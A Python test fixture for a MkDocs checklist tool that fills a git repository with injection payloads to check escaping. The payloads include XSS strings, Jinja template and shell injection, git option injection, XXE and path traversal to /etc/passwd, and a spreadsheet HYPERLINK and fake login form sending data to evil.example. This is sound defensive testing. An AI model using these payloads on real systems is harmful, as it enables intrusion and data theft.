"""Texts that were made to be obeyed instead of read, one of each kind, and a repository that has them wherever text may stand."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

from donebook.problem import HIDDEN
from donebook.run import Attempt, Evidence, Gate, Link, Part, Redline, Result, Signoff, StepResult, Waiver, encode
from drawing import git

ATTACKS = {
    # HTML: tags, attributes, what ends an attribute or an element of text, what parsers of two kinds read in two ways.
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image-off-site": "<img src=https://evil.example/pixel.png>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "double-quote": '" autofocus tabindex=1 onfocus=alert(1) x="',
    "single-quote": "' autofocus tabindex=1 onfocus=alert(1) x='",
    "backtick": "`onmouseover=alert(1)`",
    "unclosed": "<img src=x onerror=alert(1) //",
    "textarea": "</textarea><script>alert(1)</script>",
    "title": "</title></style></script><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "plaintext": "<plaintext>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "style": "<style>*{background:url(https://evil.example/css)}</style>",
    "form": "<form action=https://evil.example/><button>Sign in</button><input name=password></form>",
    "clobber": "<a id=__search name=__md_scope><form id=document><input name=body></form>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &Tab;",
    "end-tags": "</li></ul></article></main></div>",
    # Markdown, the extensions of MkDocs, and templates.
    "heading": "# Sign-offs\n\n- [x] All is well\n\n| role | who |\n|---|---|\n| QA | Alice (approved) |",
    "aligned": "| a | b |\n|:-:|--:|\n| 1 | 2 |",
    "setext": "checklist: true\n---\n\nApproved\n===",
    "fence": "```\n</code></pre>\n```\n<b>out</b>",
    "code": "`</code><img src=x onerror=alert(1)>`",
    "link-script": "[click](javascript:alert(1)) [click](&#106;avascript:alert(1)) <javascript:alert(1)>",
    "link-data": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](//evil.example)",
    "picture": "![](https://evil.example/pixel.png) [![x](https://evil.example/a.png)](https://evil.example/)",
    "reference": "[Runbook]: https://evil.example/\n\n[Runbook]",
    "attributes": "text{: onclick=alert(1) style=position:fixed;inset:0 }\n{: #__search .md-header onmouseover=alert(1) }",
    "jinja": "{{ cycler.__init__.__globals__.os.popen('touch /tmp/donebook-was-run').read() }}",
    "jinja-block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja-comment": "{# no end",
    "jinja-sum": "{{ 7 * 191 }} ${7*191} #{7*191} <%= 7*191 %>",
    "snippet": '--8<-- "secret.txt"\n\n;--8<-- "secret.txt"',
    "block": '/// html | div[onclick=alert(1)]\nx\n///\n\n!!! danger "Approved"\n    x',
    "footnote": "[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n\n*[HTML]: <img src=x onerror=alert(1)>",
    "emoji": ":material-check-decagram: :fontawesome-brands-x: <!-- md:version 1 -->",
    # Addresses.
    "url-script": "javascript:alert(1)",
    "url-script-case": "JaVaScRiPt:alert(1)//https://example.org/",
    "url-data": "data:text/html,<script>alert(1)</script>",
    "url-host": "//evil.example/",
    "url-backslash": "https:\\\\evil.example\\",
    "url-slash-backslash": "/\\evil.example/",
    "url-user": "https://github.com@evil.example/",
    "url-quote": 'https://example.org/"onmouseover="alert(1)',
    "url-space": "https://example.org/ onmouseover=alert(1)",
    "url-name": "https://ex\u0430mple.org/",
    "url-width": "\uff48ttps://\uff45vil.example/",
    "url-file": "file:///etc/passwd",
    "url-port": "https://example.org:99999999/",
    "url-brackets": "https://[::1/",
    # Machines: JSON, spreadsheets, XML, GitHub's runners, command lines.
    "json": '</script><!--<script>{"__proto__":{"polluted":1}}',
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-space": "   =1+1",
    "formula-tab": "\t=1+1",
    "formula-width": "\uff1d1+1",
    "formula-quote": '","=1+1","',
    "cdata": "]]><x/>",
    "doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "command": "::error file=x::done\n::add-mask::a\n  ::stop-commands::x\n##[error]x",
    "command-percent": "%0A::set-output name=x::y%0D%25",
    "mention": "@everyone Fixes #1 <!-- --> ![](https://evil.example/a.png)",
    "option": "--upload-pack=touch /tmp/donebook-was-run",
    "shell": "$(touch /tmp/donebook-was-run) `touch /tmp/donebook-was-run` ; touch /tmp/donebook-was-run",
    "path": "../../../../../../etc/passwd",
    "secret": "https://example.org/?token=short&page=2",
    # Text that is not what it seems.
    "look-alike": "\u0430lice",
    "combining": "Z" + "\u0301\u0302\u0303\u0304" * 40,
    "joiners": "\U0001f468\u200d\U0001f469\u200d\U0001f467 می\u200cخواهم",
    "lines": "one\ntwo\n\n\nthree",
    "wide": "x" * 190,
}
"""Each kind of attack by name. All of it is text that a run file may hold."""

HIDING = {name: f"a{character}b" for name, character in {
    "escape": "\x1b[2J\x1b]0;title\x07", "backspace": "\b\b\bx", "nul": "\0", "bell": "\a", "c1": "\x9b2J", "delete": "\x7f",
    "override": "\u202e", "isolate": "\u2066", "mark": "\u200f", "zero-width": "\u200b", "bom": "\ufeff", "tag": "\U000e0041", "line": "\u2028", "annotation": "\ufff9",
}.items()}  # fmt: skip
"""Characters that hide or reorder others: a run file that has one is refused."""
assert all(set(text) & HIDDEN for text in HIDING.values())
assert not any(set(text) & (HIDDEN - {"\n", "\t"}) for text in ATTACKS.values())

NAMES = (
    "javascript:alert(1)", "a#b?c d", "<img src=x onerror=alert(1)>", "{{7*191}}", "$(touch donebook-was-run)", "--upload-pack=x", "=1+1", "\u00e9",
    "e\u0301", "A", "a", "con", "a'b", 'a"b', "a%2e%2e", "a\\b", "::error::x", "a|b", "x" * 240,
)  # fmt: skip
"""Names that a part of a run may have, and git carries."""
HIDING_NAMES = ("ev\u202eil", "a\nb", "a\x1b[2J", "a\u200bb")

LIST = """---
checklist: true
---
# Deploy

## Before { .gate }

- [ ] Back up {{version}} of [Service]
- [ ] Check { evidence=required }

## After

- [ ] Watch

## Rollback

- [ ] Restore

## Sign-off

**QA Lead:** [Name] - [Date]
"""
AT = datetime.fromisoformat("2026-11-22T20:00:00+01:00")


def hostile_list(names: list[str]) -> str:
    """A checklist whose title, headings, steps, prose and roles are attacks, each on lines of its own."""
    texts = [ATTACKS[name] for name in names]
    lines = [" ".join(text.split()) for text in texts]
    sections = "".join(
        f"## {line}\n\n{text}\n\n- [ ] {line}\n    - [ ] under {line}\n\n    {line}\n\n> {line}\n\n"
        for line, text in zip(lines, texts, strict=True)
    )
    signs = "".join(f"**{line[:60]}:** [Name] - [Date]\n" for line in lines)
    return f"# {lines[0]}\n\n{sections}## Sign-off\n\n{signs}"


def hostile_part(text: str, frozen: str | None = None) -> Part:
    """A run that says `text` wherever a run may say something."""
    word, evidence = text[:200], (Evidence(href=text, title=text[:200]), Evidence(href=f"https://example.org/{text}"))
    failed = {"result": Result.FAILED, "by": word, "at": AT, "note": text, "evidence": evidence}
    waiver = Waiver(by=word, reason=text, at=AT)
    return Part(
        subject=word,
        version=word,
        environment=word,
        links=(Link(rel=word, href=word, title=word), Link(rel="ticket", href=f"https://example.org/{word}"[:200])),
        operator=word,
        started=AT,
        finished=AT,
        happened=("rollback", word),
        steps={
            "back-up-version-of-service": StepResult(**failed, waiver=waiver, attempts=(Attempt(**failed),)),
            "check": StepResult(result=Result.PASSED, by=word, note=text, evidence=evidence),
            "no-such-step": StepResult(result=Result.SKIPPED, by=word, note=text),
        },
        gates={"before": Gate(by=word, at=AT, note=text), "no-such-gate": Gate(by=word, note=text)},
        signoffs=(Signoff(role="QA Lead", name=word, by=word, at=AT, note=text), Signoff(role=word, name=word, by=word, note=text)),
        redlines=(Redline(note=text, step="check", by=word), Redline(note=text, step=word)),
        frozen=frozen,
    )


def besieged(folder: Path, configuration: str = "theme: {name: material, font: false}\n") -> list[str]:
    """Make a repository of attacks in a folder: a run for each of them, in all formats; and give the ids of the runs.

    The first run of all has frozen a checklist of attacks; each commit has an attack as its subject and its author's name.
    """
    plugins = "plugins: [search, donebook]\n" if "plugins" not in configuration else ""
    (folder / "docs").mkdir()
    (folder / "runs" / "deploy").mkdir(parents=True)
    (folder / "mkdocs.yml").write_text(f"site_name: Besieged\nsite_url: https://docs.example.org/\n{plugins}{configuration}", "utf-8")
    (folder / "docs" / "index.md").write_text("# Home\n", "utf-8")
    (folder / "docs" / "deploy.md").write_text(LIST, "utf-8")
    (folder / "secret.txt").write_text("do-not-publish-this\n", "utf-8")
    git(folder, "init", "-q", "-b", "main")
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "The list")
    ids = []
    for number, (name, text) in enumerate(ATTACKS.items()):
        id = f"2026-11-22-{number:02}-{name}"
        ending = ("yml", "json", "toml")[number % 3]
        frozen = hostile_list(list(ATTACKS)) if not number else None
        (folder / "runs" / "deploy" / f"{id}.{ending}").write_text(encode(hostile_part(text, frozen), ending), "utf-8")
        git(folder, "add", "-A")
        git(folder, "commit", "-qm", text, name=" ".join(text.split()).replace("<", "(").replace(">", ")") or "x")
        ids.append(id)
    return ids
